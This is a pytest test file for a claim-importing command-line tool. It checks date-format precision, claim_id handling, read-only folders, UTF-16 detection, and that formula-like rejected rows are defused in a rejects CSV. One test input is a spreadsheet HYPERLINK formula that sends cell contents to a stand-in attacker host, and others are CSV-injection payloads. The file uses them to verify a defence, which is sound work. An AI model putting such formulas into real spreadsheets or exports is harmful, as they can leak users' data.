"""claimbook import never stores a wrong value silently and never leaves a trap: dates are read
to the precision the format really has (or the format is refused by name), a --set claim_id is
kept or refused, a rejects file opened in a spreadsheet runs no formula, and a folder that cannot
be written or a file in UTF-16 is a plain message with nothing changed."""

from __future__ import annotations

import csv
import os
import shutil
from pathlib import Path

import pytest

from claimbook import store
from conftest import run_cli as run
from conftest import run_cli_process

COLUMNS = ["statement", "who", "when", "link"]
MAPPED = ["--map", "claim=statement", "--map", "claimant=who", "--map", "date=when",
          "--map", "url=link", "--set", "claim_type=statement"]


@pytest.fixture(autouse=True)
def _in_tmp_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A rejects file goes to the current folder by default: never the project's."""
    monkeypatch.chdir(tmp_path)


def foreign(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows([COLUMNS, *rows])
    return path


def one_claim(tmp_path: Path, when: str = "2020-03-04") -> Path:
    return foreign(tmp_path / "in.csv", [["The sky is green.", "Jane Roe", when,
                                          "https://example.org/1"]])


def folder_state(data: Path) -> dict[str, bytes]:
    return {str(p.relative_to(data)): p.read_bytes() for p in sorted(data.rglob("*"))
            if p.is_file()}


def imported_dates(data: Path) -> list[str]:
    claims = store.load(data).claims
    return claims.loc[claims["claimant"] == "Jane Roe", "date"].tolist()


def test_rejected_rows_that_look_like_formulas_are_inert_in_the_rejects_file(
        data_copy: Path, tmp_path: Path) -> None:
    risky = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)"]
    rows = [[text, "Jane Roe", "2020-03-04", ""] for text in risky]  # no url: rejected
    rejects = tmp_path / "rejects.csv"
    done = run("import", "--data", str(data_copy), str(foreign(tmp_path / "in.csv", rows)),
               *MAPPED, "--rejects", str(rejects))
    assert "4 rejected" in done.output, done.output
    with open(rejects, encoding="utf-8", newline="") as f:
        shown = [r["statement"] for r in csv.DictReader(f)]
    assert shown == ["'" + text for text in risky]


@pytest.mark.parametrize(("date_format", "written", "stored"), [
    ("%x", "07/03/25", "2025-07-03"),  # %x is %m/%d/%y here: a day, though no %d is written
    ("%D", "07/03/25", "2025-07-03"),
    ("%F", "2025-07-03", "2025-07-03"),
    ("%b %Y", "Jul 2025", "2025-07"),
])
def test_a_date_is_stored_to_the_precision_its_format_reads(
        tmp_path: Path, date_format: str, written: str, stored: str) -> None:
    data = tmp_path / "data"
    done = run("import", "--data", str(data), str(one_claim(tmp_path, written)), *MAPPED,
               "--date-format", date_format)
    assert done.exit_code == 0, done.output
    assert imported_dates(data) == [stored]


@pytest.mark.parametrize(("date_format", "says"), [
    ("%s", "cannot read dates"), ("%m/%d", "no year"), ("%Y %d", "no month")])
def test_a_date_format_whose_precision_cannot_be_told_is_refused(
        data_copy: Path, tmp_path: Path, date_format: str, says: str) -> None:
    before = folder_state(data_copy)
    done = run("import", "--data", str(data_copy), str(one_claim(tmp_path, "1583020800")),
               *MAPPED, "--date-format", date_format)
    assert done.exit_code == 2, done.output
    assert f"--date-format {date_format}" in done.output and says in done.output
    assert folder_state(data_copy) == before


def test_set_claim_id_is_kept_for_one_row_and_refused_for_more(
        data_copy: Path, tmp_path: Path) -> None:
    done = run("import", "--data", str(data_copy), str(one_claim(tmp_path)), *MAPPED,
               "--set", "claim_id=C100")
    assert done.exit_code == 0, done.output
    assert "C100" in set(store.load(data_copy).claims["claim_id"])

    before = folder_state(data_copy)
    two = foreign(tmp_path / "two.csv", [["A.", "Jane Roe", "2020", "https://example.org/a"],
                                         ["B.", "Jane Roe", "2021", "https://example.org/b"]])
    done = run("import", "--data", str(data_copy), str(two), *MAPPED, "--set", "claim_id=C101")
    assert done.exit_code == 2
    assert "--set claim_id" in done.output and "--map claim_id=COLUMN" in done.output
    assert folder_state(data_copy) == before


def without_write_permission_bypass() -> list[str]:
    """A command prefix under which a folder's missing write bit is obeyed (root ignores it)."""
    if os.geteuid() != 0:
        return []
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: a read-only folder cannot be made")
    return ["setpriv", "--bounding-set=-dac_override", "--"]


@pytest.mark.parametrize("command", ["import", "convert"])
def test_a_read_only_data_folder_is_a_plain_message_and_nothing_changes(
        data_copy: Path, tmp_path: Path, command: str) -> None:
    args = (["import", "--data", str(data_copy), str(one_claim(tmp_path)), *MAPPED]
            if command == "import" else ["convert", "--data", str(data_copy), "--to", "parquet"])
    before = folder_state(data_copy)
    data_copy.chmod(0o555)
    try:
        done = run_cli_process(*args, cwd=tmp_path, env={"TMPDIR": str(tmp_path)},
                               prefix=without_write_permission_bypass())
    finally:
        data_copy.chmod(0o755)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert f"{data_copy}: cannot write there" in done.stderr
    assert folder_state(data_copy) == before


def utf16le(path: Path) -> Path:
    """The file as UTF-16 little-endian without a byte-order mark (what some tools save)."""
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16-le"))
    return path


def test_utf16_without_byte_order_mark_is_named_with_the_fix(
        data_copy: Path, tmp_path: Path) -> None:
    utf16le(data_copy / "claims.csv")
    done = run("validate", "--data", str(data_copy))
    assert done.exit_code == 2
    assert "is UTF-16LE text" in done.output and "iconv -f UTF-16LE -t UTF-8" in done.output
    assert "unquoted comma" not in done.output

    data = tmp_path / "data"
    done = run("import", "--data", str(data), str(utf16le(one_claim(tmp_path))), *MAPPED)
    assert done.exit_code == 2
    assert "in.csv: is UTF-16LE text" in done.output and "iconv" in done.output

    lines = tmp_path / "in.jsonl"
    lines.write_text('{"statement": "The sky is green.", "who": "Jane Roe"}\n', encoding="utf-8")
    done = run("import", "--data", str(data), str(utf16le(lines)), *MAPPED)
    assert done.exit_code == 2
    assert "in.jsonl: is UTF-16LE text" in done.output
